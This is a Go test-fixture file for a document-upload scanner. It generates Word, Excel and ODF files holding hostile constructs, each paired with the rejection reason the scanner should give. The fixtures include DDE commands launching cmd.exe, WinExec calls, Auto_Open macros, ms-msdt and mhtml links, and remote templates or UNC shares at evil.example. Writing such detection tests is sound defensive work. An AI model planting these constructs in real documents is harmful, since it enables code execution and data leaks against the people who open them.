package scantest

import (
	"strings"

	"mydata.nat.gov.tw/portal/pkg/upload"
)

// attack is one thing added to a document, or put in place of a part.
type attack struct {
	part   Part
	reason upload.Reason
}

func attacks(o office, list map[string]attack) []File {
	var files []File
	for _, name := range sorted(list) {
		files = append(files, File{Name: string(o.kind) + ": " + name, Content: Zip(with(o.parts, list[name].part)...), Reason: list[name].reason})
	}
	return files
}

func hostileWords() []File {
	o := word()
	text := func(inner string) Part {
		return Part{Name: o.body, Text: xmlHead + `<w:document ` + wordNS + `><w:body>` + inner + `</w:body></w:document>`}
	}
	related := func(list string) Part { return Part{Name: o.relsOf(), Text: rels(list)} }
	retyped := func(old, new string) Part {
		return Part{Name: "[Content_Types].xml", Text: strings.Replace(o.parts[0].Text, old, new, 1)}
	}
	list := attacks(o, map[string]attack{
		"macros":                      {Part{Name: "word/vbaProject.bin", Text: "\xcc\x61"}, upload.Macros},
		"macros under another name":   {related(`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>`), upload.Macros},
		"macros by type":              {retyped("</Types>", `<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`), upload.Macros},
		"a document for macros":       {retyped(docType+"wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), upload.Macros},
		"a template":                  {retyped("document.main+xml", "template.main+xml"), upload.Unknown},
		"two documents in one":        {retyped("</Types>", `<Override PartName="/x.xml" ContentType="`+docType+`spreadsheetml.sheet.main+xml"/></Types>`), upload.Malformed},
		"controls":                    {Part{Name: "word/activeX/activeX1.xml", Text: "<a/>"}, upload.Macros},
		"a ribbon of its own":         {Part{Name: "customUI/customUI.xml", Text: "<a/>"}, upload.Macros},
		"a template from a server":    {related(outward("attachedTemplate", "https://evil.example/a.dotm")), upload.External},
		"a template from a share":     {related(outward("attachedTemplate", `\\evil.example\share\a.dotm`)), upload.External},
		"a template by file address":  {related(outward("attachedTemplate", "file://evil.example/share/a.dotm")), upload.External},
		"a picture from a server":     {related(outward("image", "https://evil.example/a.png")), upload.External},
		"an object from a server":     {related(outward("oleObject", "https://evil.example/a.html!")), upload.External},
		"an object by mhtml":          {related(outward("oleObject", "mhtml:https://evil.example/a.html!x-usc:")), upload.Scripts},
		"a frame":                     {related(outward("frame", "https://evil.example/")), upload.External},
		"a link that runs a script":   {related(outward("hyperlink", "JavaScript:alert(1)")), upload.Scripts},
		"a link to a share":           {related(outward("hyperlink", `\\evil.example\a`)), upload.External},
		"a link that starts a tool":   {related(outward("hyperlink", "ms-msdt:/id")), upload.Scripts},
		"a link of an unknown scheme": {related(outward("hyperlink", "steam://run/1")), upload.External},
		"another format within":       {related(`<Relationship Id="rId1" Type="` + relType + `aFChunk" Target="a.mht"/>`), upload.Embedded},
		"another format in the text":  {text(`<w:altChunk r:id="rId1"/>`), upload.Embedded},
		"DDE":                         {text(wordField(`DDEAUTO c:\\windows\\cmd.exe "/k calc"`)), upload.External},
		"DDE in lower case":           {text(wordField(`  dde excel a`)), upload.External},
		"DDE in a simple field":       {text(`<w:fldSimple w:instr="DDE a b"/>`), upload.External},
		"DDE without marks":           {text(`<w:instrText>DDEAUTO a</w:instrText>`), upload.External},
		"DDE that never ends":         {text(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:instrText>DD</w:instrText><w:instrText>E a</w:instrText>`), upload.External},
		"DDE spelled in codes":        {text(wordField("QUOTE 68 68 69 65 85 84 79")), upload.External},
		"a text from elsewhere":       {text(wordField(`INCLUDETEXT "https://evil.example"`)), upload.External},
		"a picture field":             {text(wordField(`INCLUDEPICTURE "https://evil.example/a.png"`)), upload.External},
		"a button for macros":         {text(wordField("MACROBUTTON Auto press")), upload.External},
		"a text in another alphabet":  {Part{Name: o.body, Text: `<?xml version="1.0" encoding="UTF-16"?><a/>`}, upload.Malformed},
		"a package in a package in a package": {Part{Name: "word/embeddings/a.xlsx", Text: string(Zip(with(sheet().parts,
			Part{Name: "xl/embeddings/b.docx", Text: string(Zip(word().parts...))})...))}, upload.Embedded},
		"macros in its figures": {Part{Name: "word/embeddings/a.xlsx", Text: string(Zip(with(sheet().parts, Part{Name: "xl/vbaProject.bin", Text: "x"})...))}, upload.Macros},
		"an archive as figures": {Part{Name: "word/embeddings/a.xlsx", Text: string(Zip(Part{Name: "a", Text: "b"}))}, upload.Embedded},
	})
	return append(list, File{Name: "docx: no main part", Content: Zip(with(o.parts, retyped(`<Override PartName="/`+o.body+`"`, `<Override PartName="/none" ContentType="text/xml"/><Ignored`))...),
		Reason: upload.Unknown})
}

func hostileSheets() []File {
	o := sheet()
	cells := func(f string) Part {
		return Part{Name: "xl/worksheets/sheet1.xml", Text: xmlHead + `<worksheet ` + sheetNS + `><sheetData><row><c><f>` + f + `</f></c></row></sheetData></worksheet>`}
	}
	return attacks(o, map[string]attack{
		"a sheet of macros":       {Part{Name: "xl/macrosheets/sheet1.xml", Text: "<a/>"}, upload.Macros},
		"a sheet of old macros":   {Part{Name: o.relsOf(), Text: rels(`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="a.xml"/>`)}, upload.Macros},
		"a dialogue":              {Part{Name: "xl/dialogsheets/sheet1.xml", Text: "<a/>"}, upload.Macros},
		"DDE in a cell":           {cells(`cmd|'/c calc'!A1`), upload.External},
		"DDE as a link":           {Part{Name: "xl/externalLinks/externalLink1.xml", Text: `<externalLink ` + sheetNS + `><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}, upload.External},
		"OLE as a link":           {Part{Name: "xl/externalLinks/externalLink1.xml", Text: `<externalLink ` + sheetNS + `><oleLink/></externalLink>`}, upload.External},
		"a service on the web":    {cells(`_xlfn.WEBSERVICE("https://evil.example")`), upload.External},
		"a call":                  {cells(`CALL("kernel32","WinExec","JCJ","calc",0)`), upload.External},
		"a name that runs":        {Part{Name: o.body, Text: xmlHead + `<workbook ` + sheetNS + `><definedNames><definedName name="Auto_Open">EXEC("calc")</definedName></definedNames></workbook>`}, upload.External},
		"a query on the web":      {Part{Name: "xl/connections.xml", Text: `<connections ` + sheetNS + `><connection><webPr url="https://evil.example"/></connection></connections>`}, upload.External},
		"a workbook on a server":  {Part{Name: "xl/externalLinks/_rels/externalLink1.xml.rels", Text: rels(outward("externalLinkPath", "https://evil.example/a.xlsx"))}, upload.External},
		"a drawing with a script": {Part{Name: "xl/drawings/vmlDrawing1.vml", Text: `<xml xmlns:v="urn:schemas-microsoft-com:vml"><script>alert(1)</script></xml>`}, upload.Scripts},
	})
}

func hostileODF() []File {
	var list []File
	for _, o := range offices() {
		if !o.isODF() {
			continue
		}
		inside := func(more string) Part {
			i := 3 // content.xml
			return Part{Name: o.body, Text: strings.Replace(o.parts[i].Text, "<office:body>", "<office:body>"+more, 1)}
		}
		list = append(list, attacks(o, map[string]attack{
			"macros in Basic":          {Part{Name: "Basic/Standard/Module1.xml", Text: "<a/>"}, upload.Macros},
			"macros in Python":         {Part{Name: "Scripts/python/a.py", Text: "import os"}, upload.Macros},
			"a dialogue":               {Part{Name: "Dialogs/Standard/a.xml", Text: "<a/>"}, upload.Macros},
			"signed macros":            {Part{Name: "META-INF/macrosignatures.xml", Text: "<a/>"}, upload.Macros},
			"a listener":               {Part{Name: o.body, Text: strings.Replace(o.parts[3].Text, "<office:scripts/>", `<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="x"/></office:event-listeners></office:scripts>`, 1)}, upload.Macros},
			"a script":                 {Part{Name: o.body, Text: strings.Replace(o.parts[3].Text, "<office:scripts/>", `<office:scripts><office:script script:language="Basic"/></office:scripts>`, 1)}, upload.Scripts},
			"a link to a macro":        {inside(`<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>`), upload.Scripts},
			"a link to an old macro":   {inside(`<text:a xlink:href="macro:///Standard.Module1.Main"/>`), upload.Scripts},
			"a link to a share":        {inside(`<text:a xlink:href="//evil.example/share"/>`), upload.External},
			"a key that runs a macro":  {Part{Name: "Configurations2/accelerator/current.xml", Text: `<a:item xmlns:a="x" a:href="vnd.sun.star.script:a?language=Python"/>`}, upload.Scripts},
			"a picture from a server":  {inside(`<draw:image xlink:href="https://evil.example/a.png"/>`), upload.External},
			"an object from a server":  {inside(`<draw:object xlink:href="https://evil.example/a.odt"/>`), upload.External},
			"a picture from the disk":  {inside(`<draw:image xlink:href="../../secret.png"/>`), upload.External},
			"a frame":                  {inside(`<draw:floating-frame xlink:href="https://evil.example/"/>`), upload.External},
			"a plugin":                 {inside(`<draw:plugin xlink:href="https://evil.example/"/>`), upload.External},
			"an applet":                {inside(`<draw:applet draw:code="a"/>`), upload.External},
			"DDE":                      {inside(`<office:dde-source office:dde-application="soffice"/>`), upload.External},
			"a service on the web":     {inside(`<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>`), upload.External},
			"a password":               {Part{Name: "META-INF/manifest.xml", Text: `<m:manifest xmlns:m="x"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>`}, upload.Encrypted},
			"another type":             {Part{Name: "mimetype", Text: "application/vnd.oasis.opendocument.base", Stored: true}, upload.Unknown},
			"its type packed":          {Part{Name: "mimetype", Text: o.parts[0].Text}, upload.Malformed},
			"an entity in its content": {Part{Name: o.body, Text: strings.Replace(o.parts[3].Text, "<office:document-content", `<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><office:document-content`, 1)}, upload.Malformed},
		})...)
		list = append(list, File{Name: string(o.kind) + ": its type last", Content: Zip(append(without(o.parts, "mimetype"), o.parts[0])...), Reason: upload.Malformed},
			File{Name: string(o.kind) + ": no content", Content: Zip(without(o.parts, o.body)...), Reason: upload.Malformed},
			File{Name: string(o.kind) + ": no manifest", Content: Zip(without(o.parts, "META-INF/manifest.xml")...), Reason: upload.Malformed})
	}
	return list
}
